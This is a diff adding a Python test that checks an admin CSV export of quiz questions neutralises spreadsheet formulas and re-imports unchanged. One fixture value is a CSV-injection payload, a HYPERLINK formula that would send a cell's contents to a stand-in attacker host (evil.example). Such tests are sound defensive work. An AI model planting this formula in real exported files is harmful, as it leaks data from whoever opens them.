@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -141,3 +144,22 @@ def test_the_gate_s_questions_come_as_a_sheet_that_can_be_sent_again(
     application.gate.set("default", tmp_path / "again.csv")
     assert application.gate.show("default") == before
     assert client.get("/api/admin/questions/default").status_code == 401
+
+
+def test_no_question_of_the_gate_s_sheet_is_a_formula_and_all_come_back_as_they_were(
+    client: TestClient, application: Application, tmp_path: Path
+) -> None:
+    questions = [
+        {"text": '=HYPERLINK("http://evil.example/?"&A2,"open")', "answers": ["-40 °C", "＝1"], "source": "@list.pdf"},
+        {"text": "'=1+1 is what?", "answers": ["'quoted'"]},
+        {"text": "''+49: which country?", "answers": ["|'-40 °C"]},
+    ]
+    (tmp_path / "own.jsonl").write_text("\n".join(json.dumps(own) for own in questions), encoding="utf-8")
+    application.gate.set("default", tmp_path / "own.jsonl")
+    before = application.gate.show("default")
+    sheet = client.get("/api/admin/questions/default", headers=ADA)
+    cells = [cell for row in csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"), newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))]
+    (tmp_path / "again.csv").write_bytes(sheet.content)
+    application.gate.set("default", tmp_path / "again.csv")
+    assert application.gate.show("default") == before
